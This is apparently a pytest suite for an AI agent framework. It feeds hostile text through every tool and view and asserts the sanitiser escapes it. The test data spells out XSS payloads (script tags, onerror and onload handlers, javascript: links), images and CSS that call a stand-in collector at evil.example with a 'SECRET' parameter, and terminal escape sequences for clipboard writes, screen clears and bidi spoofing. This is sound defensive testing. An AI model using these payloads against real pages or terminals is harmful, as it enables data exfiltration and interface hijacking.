"""Every view, fed hostile text, passes the sanitizer check: no scripts, no handlers, no remote loads, no controls.

The hostile text mixes raw HTML, Markdown images pointing at a collecting server, javascript:
links, CSS loads and terminal control sequences (OSC title, OSC 52 clipboard, screen clear, C1 CSI,
bidi override). It goes through real tool calls on a real agent wherever a tool produces it, and
through the views directly for what needs a server or a process (MCP blocks, exec output, chat).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

import cireil
from cireil.render import chat, result_bundle
from cireil.render.exec import live_bundle
from cireil.render.opened_files import context_bundle
from cireil.render.safe import markdown_html, visible
from cireil.runtime.toolkit.result import ToolResult
from conftest import make_agent
from htmlcheck import html_problems, problems

EVIL = "https://evil.example/collect?d=SECRET"
CONTROLS = "\x1b]0;pwned title\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[31mred\x9b1m\u202etxt.exe\r"
HOSTILE = (
    f"# Title <script>alert(1)</script>\n\n"
    f"![exfil]({EVIL}) ![rel](pixel.png) [click](javascript:alert(1)) <img src={EVIL} onerror=alert(1)>\n\n"
    f'<iframe src="{EVIL}"></iframe><link rel=stylesheet href="{EVIL}"><style>@import url({EVIL})</style>\n\n'
    f'[![nested]({EVIL})](https://ok.example) " \' onmouseover=alert(1) x="</pre></div>\n\n'
    f"## Section {CONTROLS}\n\n- item {CONTROLS}\n\n```html\n<svg onload=alert(1)><image href='{EVIL}'/></svg>\n```\n"
)
ODD_NAME = "<img src=x onerror=alert(1)>\x1b]0;t\x07.md"

TOOLS = """\
respond = true
no-response = true
read = true
write = true
edit = true
list-dir = true
open-file = true
read-sections = true
close-file = true
read-skill = true
session-info = true
react = true
read-history = true
read-session = true
list-sessions = true
query-sessions = true
download-attachments = true
prune-boundaries = true
"""


@pytest.fixture(scope="module")
def agent(tmp_path_factory):
    root = make_agent(tmp_path_factory.mktemp("hostile"), TOOLS)
    ws = root / "workspace"
    (ws / "evil.md").write_text(HOSTILE)
    (ws / "evil.html").write_text(HOSTILE)
    (ws / "long.md").write_text(("## Part <b>x</b> ![i](" + EVIL + ")\n\n" + "text " * 400 + "\n\n") * 40)
    (ws / ODD_NAME).write_text(HOSTILE)
    with open(os.path.join(os.fsencode(ws), b"bad\xff\x1b[2J.txt"), "wb") as f:
        f.write(HOSTILE.encode())
    (root / "skills" / "notes" / "SKILL.md").write_text(f"---\nname: notes\ndescription: x\n---\n{HOSTILE}")
    a = cireil.load(root)
    yield a
    a.close()


CALLS = [
    ("read", {"path": "/workspace/evil.md"}),
    ("read", {"path": "/workspace/evil.md", "raw": True}),
    ("read", {"path": "/workspace/evil.html"}),
    ("read", {"path": "/workspace/long.md"}),
    ("read", {"path": "/workspace/" + ODD_NAME}),
    ("read", {"path": "/workspace/bad\\xff\x1b[2J.txt"}),
    ("read", {"path": "/workspace/" + HOSTILE}),
    ("list-dir", {"path": "/workspace"}),
    ("open-file", {"path": "/workspace/evil.md"}),
    ("open-file", {"path": "/workspace/evil.md", "sections": [HOSTILE]}),
    ("read-sections", {"path": "/workspace/long.md", "sections": ["part-x-i"]}),
    ("read-sections", {"path": "/workspace/evil.md", "sections": ["title-script-alert-1-script"]}),
    ("close-file", {"path": "/workspace/evil.md"}),
    ("read-skill", {"name": "notes"}),
    ("write", {"path": "/workspace/out.md", "content": HOSTILE}),
    ("edit", {"path": "/workspace/out.md", "oldString": "# Title", "newString": HOSTILE}),
    ("edit", {"path": "/workspace/out.md", "oldString": HOSTILE + "nope", "newString": "x"}),
    ("respond", {"content": HOSTILE}),
    ("respond", {"content": HOSTILE, "final": False, "channel": HOSTILE}),
    ("session-info", {}),
    ("react", {"emoji": HOSTILE, "message_id": HOSTILE}),
    ("read-history", {"message_id": HOSTILE}),
    ("read-session", {"id": HOSTILE}),
    ("list-sessions", {}),
    ("query-sessions", {"query": HOSTILE, "mode": "raw"}),
    ("query-sessions", {"query": "Title*", "mode": "glob"}),
    ("download-attachments", {"message_id": HOSTILE, "to": "/workspace"}),
    ("prune-boundaries", {"start": HOSTILE, "end": HOSTILE, "identifier": HOSTILE, "summary": HOSTILE}),
    ("no-response", {}),
    ("read", {"nonsense": HOSTILE}),
]


@pytest.mark.parametrize(("tool", "args"), CALLS, ids=[f"{i}-{t}" for i, (t, _) in enumerate(CALLS)])
def test_every_tool_view_is_clean(agent, tool, args):
    result = agent.call(tool, args)
    bundle = result_bundle(result)
    assert problems(bundle) == [], (tool, result.data)


def test_a_message_the_model_sees_is_also_shown_as_text(agent):
    # the user-facing bundle escapes but keeps the hostile text visible (nothing silently dropped)
    bundle = result_bundle(agent.call("respond", {"content": HOSTILE}))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in bundle["text/html"]
    assert f'href="{EVIL.replace("?", "?").replace("&", "&amp;")}"' in bundle["text/html"]  # a link to click
    assert "␛]52;c;ZXZpbA==␇" in bundle["text/plain"]  # the clipboard write, shown instead of done


def test_the_context_view_is_clean(agent):
    agent.call("open-file", {"path": "/workspace/evil.md"})
    agent.call("open-file", {"path": "/workspace/" + ODD_NAME})
    assert problems(context_bundle(agent.context())) == []


def test_exec_output_views_show_control_sequences_instead_of_running_them():
    data = {
        "exitCode": 0,
        "success": True,
        "stdout": HOSTILE,
        "stderr": CONTROLS,
        "stdoutLength": 10,
        "stderrLength": 10,
        "warning": CONTROLS,
    }
    final = result_bundle(ToolResult("exec", {"command": "sh", "args": ["-c", HOSTILE]}, data))
    assert problems(final) == []
    assert "␛[2J" in final["text/plain"] and "␛]0;pwned title␇" in final["text/html"]
    spilled = {"exitCode": 1, "stdoutPath": "/workspace/" + CONTROLS, "stdoutPreview": HOSTILE, "stdoutLength": 9}
    assert problems(result_bundle(ToolResult("exec", {"command": CONTROLS}, spilled))) == []
    live = live_bundle({"command": "sh"}, {"stdout": HOSTILE, "stderr": CONTROLS}, {"stdout": 1}, 1.0)
    assert problems(live) == []


def test_mcp_blocks_and_structured_content_are_clean():
    blocks = [
        {"type": "text", "text": HOSTILE},
        {"type": "image", "mimeType": "image/svg+xml", "data": "PHN2Zz4="},
        {"type": "image", "mimeType": "text/html", "data": "PHN2Zz4="},
        {"type": "audio", "mimeType": "audio/wav", "data": "UklGRg=="},
        {"type": "resource_link", "uri": EVIL, "name": HOSTILE, "mimeType": HOSTILE},
        {"type": "resource_link", "uri": "javascript:alert(1)", "name": "x"},
        {"type": "resource", "resource": {"uri": HOSTILE, "text": HOSTILE}},
        {"type": HOSTILE, HOSTILE: HOSTILE},
    ]
    structured = {HOSTILE: [HOSTILE, {"k": CONTROLS}]}
    data = {"content": blocks, "structuredContent": structured}
    assert problems(result_bundle(ToolResult("mcp__evil__tool", {"q": HOSTILE}, data))) == []
    failed = {"content": blocks, "error": HOSTILE, "success": False}
    assert problems(result_bundle(ToolResult("mcp__evil__tool", {}, failed))) == []


def test_a_tool_without_a_view_is_clean():
    bundle = result_bundle(ToolResult("plugin-tool", {"x": HOSTILE}, {"out": HOSTILE, "success": True}))
    assert problems(bundle) == []


def test_chat_pieces_are_clean():
    user = chat.user_bubble({"content": [{"type": "text", "text": HOSTILE}], "reactions": [CONTROLS]})
    agent_msg = chat.agent_bubble(HOSTILE, agent=CONTROLS, to=HOSTILE, attachments=[(HOSTILE, None)])
    header = chat.tool_header({"name": HOSTILE, "input": {"a": HOSTILE}})
    for pair in (user, agent_msg, header, chat.thinking_block(HOSTILE)):
        assert problems(chat.as_bundle(pair)) == []


def test_markdown_images_become_links_and_load_nothing():
    html = markdown_html(f"![secret]({EVIL})\n\n[![in a link]({EVIL})](https://ok.example)")
    assert "<img" not in html and html_problems(html) == []
    assert f'<a href="{EVIL}"' in html and "🖼 secret" in html  # the person can still open it
    inline = markdown_html("![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in inline  # inline data fetches nothing


def test_visible_keeps_text_and_shows_controls():
    assert visible("a\tb\nc\r\nd") == "a\tb\nc\r\nd"
    assert visible("\x1b[2J\x07\x9b\u202e\r") == "␛[2J␇\\x9b⟨U+202E⟩␍"


def test_the_checker_catches_what_it_should():
    bad = [
        "<script>x</script>",
        '<img src="https://e/x">',
        '<a href="javascript:alert(1)">x</a>',
        '<div onclick="x">',
        '<div style="background:url(https://e/x)">',
        "<style>a{}</style>",
        '<iframe src="data:text/html,x"></iframe>',
        "<div>\x1b[2J</div>",
    ]
    for html in bad:
        assert html_problems(html), html
    assert html_problems('<img src="data:image/png;base64,AAAA"><a href="https://ok">x</a>') == []


def test_a_kernel_display_is_clean(tmp_path: Path, kernel):
    agent_dir = make_agent(tmp_path, TOOLS, name="k")
    (agent_dir / "workspace" / "evil.md").write_text(HOSTILE)
    kernel.run(f"%load_ext cireil\n%cireil load {agent_dir}")
    cells = (
        "%cireil_read /workspace/evil.md",
        f"agent = __import__('cireil').current_agent()\nagent.call('respond', content={HOSTILE!r})",
    )
    for code in cells:
        shown = [b for b in kernel.run(code).bundles if "text/html" in b]
        assert shown, code
        for bundle in shown:
            assert problems(bundle) == [], code


def _deep(levels: int) -> object:
    value: object = "bottom"
    for i in range(levels):
        value = {"k": value} if i % 2 else [value]
    return value


def test_deep_structures_render_to_a_depth_then_an_ellipsis():
    deep = _deep(5000)  # 900 levels overflowed the MCP tree view, 1000 json.dumps
    for tool, data in (
        ("mcp__deep__tool", {"content": [{"type": "text", "text": "ok"}], "structuredContent": deep}),
        ("mcp__deep__tool", {"content": [{"type": "mystery", "deep": deep}]}),
        ("plugin-tool", {"out": deep, "success": True}),
    ):
        bundle = result_bundle(ToolResult(tool, {"x": deep}, data))
        assert "…" in bundle["text/plain"] and "bottom" not in bundle["text/plain"]
        assert problems(bundle) == []


def test_a_huge_result_is_shown_cut_not_whole():
    from cireil.render import RESULT_MIME
    from cireil.render.safe import HTML_LIMIT, PLAIN_LIMIT

    text = "0123456789abcdef" * (100 * 1024 * 1024 // 16)  # 100 MB of text from a server
    bundle = result_bundle(ToolResult("mcp__big__tool", {}, {"content": [{"type": "text", "text": text}]}))
    assert len(bundle["text/plain"]) < PLAIN_LIMIT + 100 and "more characters not shown" in bundle["text/plain"]
    assert len(bundle["text/html"]) < HTML_LIMIT and "view too large to show" in bundle["text/html"]
    assert bundle[RESULT_MIME]["truncated"] is True
    assert problems(bundle) == []


def test_escaped_text_in_widget_html_shows_controls_too():
    from cireil.render.html import esc

    assert esc(CONTROLS + "<b>") == "␛]0;pwned title␇␛]52;c;ZXZpbA==␇␛[2J␛[31mred\\x9b1m⟨U+202E⟩txt.exe␍&lt;b&gt;"
